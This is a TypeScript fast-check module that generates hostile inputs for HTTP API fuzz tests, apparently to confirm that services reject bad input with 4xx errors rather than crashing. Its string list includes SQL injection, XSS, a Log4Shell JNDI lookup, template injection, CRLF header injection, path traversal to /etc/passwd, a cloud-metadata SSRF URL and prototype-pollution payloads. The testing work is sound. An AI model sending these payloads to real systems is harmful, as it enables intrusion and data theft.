import fc from 'fast-check';

/**
 * Generated hostile input for the HTTP fuzz suites: values and raw bodies that clients get wrong
 * by accident or on purpose. Everything here must be answered with a 4xx problem (or accepted and
 * stored faithfully), never a 500.
 */

/** Strings that break naive code: NUL, unpaired surrogates, control and bidi characters, injections. */
export const nastyStrings: readonly string[] = [
  '',
  ' ',
  '\u0000',
  'Go\u0000lang',
  '\ud800',
  'a\udfffb',
  '\ud83d\ude00',
  '\u202eevil\u202c',
  '\r\n\r\nX-Injected: 1',
  '\t\u000b\f',
  '\ufeffBOM',
  'İıß\u00adﬀ',
  "'; DROP TABLE postings; --",
  "' OR '1'='1",
  '%_\\',
  '<script>alert(1)</script>',
  '${jndi:ldap://example.invalid/a}',
  '{{7*7}}',
  '../../../../etc/passwd',
  '%00',
  '%ZZ',
  '__proto__',
  'constructor',
  'null',
  'true',
  'NaN',
  '-1',
  '1e999',
  '00000000-0000-0000-0000-000000000000',
  'https://169.254.169.254/latest/meta-data/',
  'file:///etc/passwd',
  'javascript:alert(1)',
];

/** A string no sane field accepts: up to a few hundred KiB, ASCII or multi-byte. */
export const hugeString = fc
  .record({ length: fc.integer({ min: 201, max: 300_000 }), unit: fc.constantFrom('x', 'é', '😀', '\u0000', '界') })
  .map(({ length, unit }) => unit.repeat(Math.ceil(length / unit.length)));

/** Characters that PostgreSQL, JSON, logs or terminals treat specially. */
export const nastyCharacters: readonly string[] = ['\u0000', '\u0000', '\ud800', '\udfff', '\udbff', '\u202e', '\r\n', '\u001b[31m', '\\', '"', "'", '%', '_', '\ufffd', '\uffff', '\u{10ffff}'];

/** A plausible value with a nasty character somewhere in it. */
export const taintedString: fc.Arbitrary<string> = fc
  .tuple(fc.constantFrom('Go', 'Berlin', 'Backend engineer', 'acme', 'REQ-1', 'rita@acme.example', ''), fc.constantFrom(...nastyCharacters), fc.nat(20))
  .map(([text, nasty, at]) => text.slice(0, at % (text.length + 1)) + nasty + text.slice(at % (text.length + 1)));

export const hostileString: fc.Arbitrary<string> = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom(...nastyStrings) },
  { weight: 3, arbitrary: taintedString },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
  { weight: 1, arbitrary: fc.string({ unit: 'grapheme', maxLength: 40 }) },
  { weight: 1, arbitrary: fc.string({ maxLength: 300 }) },
  { weight: 1, arbitrary: hugeString },
);

export const hostileNumber: fc.Arbitrary<number> = fc.oneof(
  fc.integer(),
  fc.double({ noNaN: true, noDefaultInfinity: true }),
  fc.constantFrom(-0, -1, 0.5, 1e308, -1e308, Number.MAX_SAFE_INTEGER + 2, 5e-324, 2 ** 31, -(2 ** 31) - 1),
);

/**
 * Text spliced raw into a JSON document where a value goes: literals JSON.stringify cannot
 * produce (overflowing numbers, deep nesting, duplicate `__proto__` keys).
 */
export const rawJsonValue: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom('1e999', '-1e999', '123456789012345678901234567890', '1.0e-999', '-0.0'),
  fc.integer({ min: 50, max: 20_000 }).map((depth) => '['.repeat(depth) + ']'.repeat(depth)),
  fc.integer({ min: 50, max: 5_000 }).map((depth) => '{"a":'.repeat(depth) + '1' + '}'.repeat(depth)),
  fc.constant('{"__proto__":{"polluted":true},"constructor":{"prototype":{"polluted":true}}}'),
  fc.constant('{"a":1,"a":2}'),
);

/** A JSON value (possibly nested) made of hostile leaves, prototype-pollution keys included. */
export const hostileJson: fc.Arbitrary<unknown> = fc.letrec<{ value: unknown }>((tie) => ({
  value: fc.oneof(
    { depthSize: 'small', withCrossShrink: true },
    hostileString,
    hostileNumber,
    fc.boolean(),
    fc.constant(null),
    fc.array(tie('value'), { maxLength: 5 }),
    fc.dictionary(fc.oneof(fc.constantFrom('__proto__', 'constructor', 'prototype', 'toString'), fc.string({ maxLength: 10 })), tie('value'), {
      maxKeys: 5,
    }),
  ),
})).value;

/** A marker that a mutation replaced a value with raw JSON text (see `toJsonText`). */
const RAW = '«raw»';

export type Mutation =
  | { kind: 'replace'; path: (string | number)[]; value: unknown }
  | { kind: 'raw'; path: (string | number)[]; text: string }
  | { kind: 'delete'; path: (string | number)[] }
  | { kind: 'add-key'; path: (string | number)[]; key: string; value: unknown }
  | { kind: 'grow-array'; path: (string | number)[]; length: number }
  /** `nasty` inserted into every string at and under `path`. */
  | { kind: 'taint-all'; path: (string | number)[]; nasty: string };

/** Every path into a JSON value: the root, object members, array elements. */
export function jsonPaths(value: unknown, prefix: (string | number)[] = []): (string | number)[][] {
  const paths = [prefix];
  if (Array.isArray(value)) value.forEach((item, index) => paths.push(...jsonPaths(item, [...prefix, index])));
  else if (typeof value === 'object' && value !== null) {
    for (const [key, item] of Object.entries(value)) paths.push(...jsonPaths(item, [...prefix, key]));
  }
  return paths;
}

/** A near-valid body: the valid one with one mutation somewhere in it. */
export function nearValid(valid: unknown): fc.Arbitrary<{ mutation: Mutation; text: string }> {
  const paths = jsonPaths(valid);
  const path = fc.constantFrom(...paths);
  const objectPaths = paths.filter((candidate) => isObject(at(valid, candidate)));
  const stringPaths = paths.filter((candidate) => typeof at(valid, candidate) === 'string');
  const arrayPaths = paths.filter((candidate) => Array.isArray(at(valid, candidate)));
  const mutations: fc.WeightedArbitrary<Mutation>[] = [
    {
      weight: 4,
      arbitrary: path.chain((target) => fc.record({ kind: fc.constant('replace' as const), path: fc.constant(target), value: replacementFor(at(valid, target)) })),
    },
    { weight: 2, arbitrary: fc.record({ kind: fc.constant('taint-all' as const), path: fc.constant([]), nasty: fc.constantFrom(...nastyCharacters) }) },
    { weight: 1, arbitrary: fc.record({ kind: fc.constant('raw' as const), path, text: rawJsonValue }) },
    { weight: 1, arbitrary: fc.record({ kind: fc.constant('delete' as const), path: path.filter((candidate) => candidate.length > 0) }) },
  ];
  if (stringPaths.length > 0) {
    // One field tainted, the rest valid: what reaches the database if validation lets it through.
    mutations.push({
      weight: 4,
      arbitrary: fc.record({ kind: fc.constant('taint-all' as const), path: fc.constantFrom(...stringPaths), nasty: fc.constantFrom(...nastyCharacters) }),
    });
  }
  if (objectPaths.length > 0) {
    mutations.push({
      weight: 1,
      arbitrary: fc.record({
        kind: fc.constant('add-key' as const),
        path: fc.constantFrom(...objectPaths),
        key: fc.oneof(fc.constantFrom('__proto__', 'constructor', 'prototype', 'id', 'version', 'status'), hostileString),
        value: hostileJson,
      }),
    });
  }
  if (arrayPaths.length > 0) {
    mutations.push({
      weight: 1,
      arbitrary: fc.record({ kind: fc.constant('grow-array' as const), path: fc.constantFrom(...arrayPaths), length: fc.integer({ min: 0, max: 20_000 }) }),
    });
  }
  return fc.oneof(...mutations).map((mutation) => ({ mutation, text: toJsonText(applyMutation(valid, mutation)) }));
}

/** Mostly a hostile value of the same type (a string for a string), else anything. */
function replacementFor(original: unknown): fc.Arbitrary<unknown> {
  const sameType =
    typeof original === 'string' ? hostileString : typeof original === 'number' ? hostileNumber : Array.isArray(original) ? fc.array(hostileJson, { maxLength: 3 }) : hostileJson;
  return fc.oneof({ weight: 3, arbitrary: sameType }, { weight: 1, arbitrary: hostileJson });
}

function isObject(value: unknown): value is Record<string, unknown> {
  return typeof value === 'object' && value !== null && !Array.isArray(value);
}

export function at(value: unknown, path: (string | number)[]): unknown {
  return path.reduce<unknown>((current, key) => (current as Record<string | number, unknown>)[key], value);
}

/** The valid value with one mutation applied (a copy). */
export function applyMutation(valid: unknown, mutation: Mutation): unknown {
  const copy = structuredClone(valid);
  const parentPath = mutation.path.slice(0, -1);
  const key = mutation.path[mutation.path.length - 1];
  const set = (value: unknown) => {
    if (key === undefined) return value;
    defineMember(at(copy, parentPath), key, value);
    return copy;
  };
  switch (mutation.kind) {
    case 'replace':
      return set(mutation.value);
    case 'raw':
      return set(`${RAW}${mutation.text}${RAW}`);
    case 'delete': {
      const parent = at(copy, parentPath);
      if (Array.isArray(parent) && typeof key === 'number') parent.splice(key, 1);
      else if (key !== undefined) delete (parent as Record<string, unknown>)[key];
      return copy;
    }
    case 'add-key':
      defineMember(at(copy, mutation.path), mutation.key, mutation.value);
      return copy;
    case 'taint-all':
      return set(taint(at(copy, mutation.path), mutation.nasty));
    case 'grow-array': {
      const array = at(copy, mutation.path) as unknown[];
      const first = array[0] ?? 'x';
      return set(Array.from({ length: mutation.length }, () => first));
    }
  }
}

/** Every string in the value with `nasty` in its middle (ids and enum values too: they must fail cleanly). */
function taint(value: unknown, nasty: string): unknown {
  if (typeof value === 'string') return value.slice(0, value.length >> 1) + nasty + value.slice(value.length >> 1);
  if (Array.isArray(value)) return value.map((item) => taint(item, nasty));
  if (isObject(value)) return Object.fromEntries(Object.entries(value).map(([key, item]) => [key, taint(item, nasty)]));
  return value;
}

/** Sets a member as JSON.parse would (an own `__proto__` key, not the prototype). */
function defineMember(target: unknown, key: string | number, value: unknown): void {
  Object.defineProperty(target, key, { value, enumerable: true, writable: true, configurable: true });
}

/** JSON text of a mutated value, with raw literals spliced in. */
export function toJsonText(value: unknown): string {
  return JSON.stringify(value).replace(new RegExp(`"${RAW}(.*?)${RAW}"`, 'gs'), (_, text: string) => JSON.parse(`"${text}"`) as string);
}

/** Bodies that are not JSON at all, or broken JSON. */
export const malformedBody: fc.Arbitrary<Uint8Array> = fc.oneof(
  fc.uint8Array({ maxLength: 2_000 }),
  fc.constantFrom(
    '',
    '{',
    '{"a":',
    '[1,2',
    '{"a":1,}',
    "{'a':1}",
    'null',
    '"a string"',
    '42',
    'true',
    '[]',
    '{}',
    '{"a":1}{"b":2}',
    '\ufeff{}',
    '{"a":"\\ud800"}',
    '{"a":"\\u0000"}',
    '{"a":"\\x00"}',
    'NaN',
    '<xml/>',
    '\u0000\u0000\u0000',
  ).map((text) => new TextEncoder().encode(text)),
  // invalid UTF-8 inside an otherwise valid document
  fc.constant(Uint8Array.from([0x7b, 0x22, 0x61, 0x22, 0x3a, 0x22, 0xc3, 0x28, 0xff, 0xfe, 0x22, 0x7d])),
);

export const hostileContentType: fc.Arbitrary<string | undefined> = fc.constantFrom(
  undefined,
  'application/json',
  'application/json; charset=utf-8',
  'application/json; charset=utf-16',
  'application/json; charset=latin1',
  'application/json; charset=nonsense',
  'application/problem+json',
  'application/merge-patch+json',
  'text/plain',
  'text/plain; charset=iso-8859-1',
  'application/x-ndjson',
  'application/x-www-form-urlencoded',
  'multipart/form-data; boundary=----x',
  'application/xml',
  'application/octet-stream',
  '*/*',
  'garbage',
  ';;;',
  'application/json; charset="',
);

/**
 * Percent-encodes anything, unpaired surrogates included (as the bytes a careless encoder sends
 * for them, which are not valid UTF-8), so it can go into a path or query string.
 */
export function encodeHostile(text: string): string {
  let encoded = '';
  for (const char of text) {
    const code = char.codePointAt(0) ?? 0;
    encoded +=
      code >= 0xd800 && code <= 0xdfff
        ? `%${(0xe0 | (code >> 12)).toString(16)}%${(0x80 | ((code >> 6) & 0x3f)).toString(16)}%${(0x80 | (code & 0x3f)).toString(16)}`.toUpperCase()
        : encodeURIComponent(char);
  }
  return encoded;
}

/** Opaque pagination cursors: base64url of JSON, as the services issue them, with hostile contents. */
export const hostileCursor: fc.Arbitrary<string> = fc
  .oneof(
    fc.tuple(fc.oneof(fc.date({ noInvalidDate: true }).map((date) => date.toISOString()), hostileString), fc.oneof(fc.uuid(), hostileString)),
    fc.tuple(fc.oneof(hostileNumber, fc.double({ min: 0, max: 100 })), fc.oneof(fc.uuid(), hostileString)),
    fc.tuple(fc.constantFrom('0', '1', '2020', 'epoch', 'infinity', '-infinity', 'now', 'today', '1/2/3', '99999-01-01', '2020-13-45', 'Tue, 1 Jan 2030'), fc.uuid()),
    hostileJson,
  )
  .map((key) => Buffer.from(JSON.stringify(key) ?? '').toString('base64url'));

/** Query strings: repeated keys, brackets, malformed percent-encoding, hostile values. */
export function hostileQuery(keys: readonly string[]): fc.Arbitrary<string> {
  const key = fc.oneof(
    { weight: 4, arbitrary: keys.length > 0 ? fc.constantFrom(...keys) : fc.constant('q') },
    { weight: 1, arbitrary: fc.constantFrom('__proto__', 'constructor', '__proto__[polluted]', 'a[b][c]', 'limit[]', '', '%ZZ') },
    { weight: 1, arbitrary: fc.string({ maxLength: 10 }).map(encodeHostile) },
  );
  const value = fc.oneof(
    hostileString.filter((text) => text.length < 4_000).map(encodeHostile),
    fc.constantFrom('%ZZ', '%E0%A4%A', '%00', '%', '', '0', '-1', '1e9', '201', '1.5', 'Infinity', 'NaN', '0x10', '+++', '%20%20'),
    hostileNumber.map((number) => encodeURIComponent(String(number))),
    hostileCursor,
  );
  return fc
    .array(fc.tuple(key, value), { maxLength: 6 })
    .map((pairs) => pairs.map(([name, text]) => `${name}=${text}`).join('&'));
}

/** Path segments where an id goes: well-formed but unknown, or not an id at all. */
export const hostilePathSegment: fc.Arbitrary<string> = fc.oneof(
  fc.uuid().map((id) => id),
  fc.uuid().map((id) => id.toUpperCase()),
  fc.uuid().map((id) => `{${id}}`),
  fc.constantFrom('%ZZ', '%E0%A4%A', '%00', '%2e%2e', '..', '.', '%2F', 'null', '0', '-1', '00000000-0000-0000-0000-000000000000', 'ffffffff-ffff-ffff-ffff-ffffffffffff'),
  hostileString.filter((text) => text.length > 0 && text.length < 3_000).map(encodeHostile),
);
